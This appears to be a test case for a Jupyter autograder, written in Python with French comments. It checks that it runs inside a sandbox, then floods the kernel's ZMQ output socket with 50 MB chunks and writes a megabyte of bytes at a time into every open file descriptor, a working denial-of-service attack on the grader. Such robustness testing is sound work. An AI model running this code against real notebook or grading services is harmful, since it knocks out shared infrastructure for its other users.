# ---
# why: envoie au correcteur un message sans fin, par morceaux, directement sur la connexion
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import threading
import time

noyau = get_ipython().kernel
prise = getattr(noyau.iopub_socket, "io_thread", None)
prise = getattr(prise, "socket", prise) or noyau.iopub_socket
bloc = b"x" * 50_000_000
import zmq

for _ in range(60):
    try:
        prise.send(bloc, zmq.SNDMORE, copy=False)
    except Exception as erreur:
        print(type(erreur).__name__)
        break
time.sleep(1)

# %% after="sigmoide"
import select

if globals().get("LANCEE"):
    fin = time.monotonic() + 3
    for nom in os.listdir("/proc/self/fd"):
        try:
            brut = socket.socket(fileno=os.dup(int(nom)))
            brut.setblocking(False)
            while time.monotonic() < fin:
                if not select.select([], [brut], [], 0.05)[1]:
                    break
                brut.send(b"\xff" * 1_000_000)
        except (OSError, ValueError):
            pass
